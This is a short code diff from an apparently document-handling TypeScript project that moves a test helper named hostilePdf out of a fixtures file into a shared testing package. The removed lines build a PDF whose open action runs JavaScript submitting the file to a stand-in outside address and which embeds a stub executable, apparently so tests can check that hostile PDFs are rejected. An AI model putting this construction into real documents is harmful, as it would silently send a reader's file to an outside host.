@@ -1,19 +1,10 @@
 import { readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 
-import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';
 
 import { zipFiles } from '../src/lib/edxml/zip';
 
-/** A PDF that runs JavaScript when opened (a submit to an outside address) and carries an embedded program. */
-export async function hostilePdf(): Promise<Buffer> {
-  const doc = await PDFDocument.create();
-  doc.addPage();
-  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm({cURL: "https://thu-thap.example/du-lieu", cSubmitAs: "PDF"});') });
-  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
-  await doc.attach(Buffer.from('MZ\x90\x00 a program'), 'cai-dat.exe', { mimeType: 'application/octet-stream' });
-  return Buffer.from(await doc.save());
-}
+export { hostilePdf } from '@vanthu/server/testing';
 
 /** The sample PDFs of libs/pdf-signing (its test/corpus/README.md says what each one is). */
 export const corpusFile = (name: string): Buffer => readFileSync(resolve(__dirname, '../../../pdf-signing/test/corpus', name));
